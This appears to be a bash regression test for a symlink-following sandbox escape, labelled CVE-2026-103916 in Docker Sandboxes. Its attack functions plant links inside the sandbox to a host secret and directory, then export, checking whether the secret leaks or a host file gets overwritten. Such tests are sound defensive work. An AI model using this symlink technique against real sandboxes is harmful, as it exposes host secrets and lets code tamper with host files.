#!/bin/bash
# CVE-2026-103916, Docker Sandboxes: copying out of a sandbox followed links, so that the copy held files
# of the host, or was written somewhere else on the host.
# Escaped: a copy contains the content of a file outside, or lies outside of its target.
# shellcheck disable=SC2317,SC2034
NEEDS="filecalls"
. "${0%/*}/../lib.sh"
prepare() { secret_out; echo original >"$OUT/file"; }
copied() { find "$R/to" -type f -exec grep -ls "$SECRET" {} + 2>/dev/null | grep -q .; }
attack() { box_open; inside 'ln -s "$OUT/secret" s; ln -s "$OUT" dir; ln -s s t'; mkdir "$R/to"; fs_cat s; fs_cat t; fs_cat dir/secret; fs_export . "$R/to"; fs_export dir "$R/to/2"; }
escaped() { secret_seen || copied; }
attempt "out of the sandbox: a link to a file, a directory, another link"
# A link that arrives in the first export must not lead the second one anywhere.
attack()
{
    box_open
    inside 'ln -s "$OUT" d'
    if [ "$BOX" = none ]; then cp -r "$WS/." "$R/to"; else fs_export . "$R/to"; fi
    inside 'rm d; mkdir d; echo evil >d/file'
    if [ "$BOX" = none ]; then (cd "$WS" && tar c d/file) | tar x -C "$R/to" --keep-directory-symlink; else fs_export . "$R/to"; fi
}
escaped() { [ "$(cat "$OUT/file")" != original ]; }
attempt "a second export onto the links of the first"
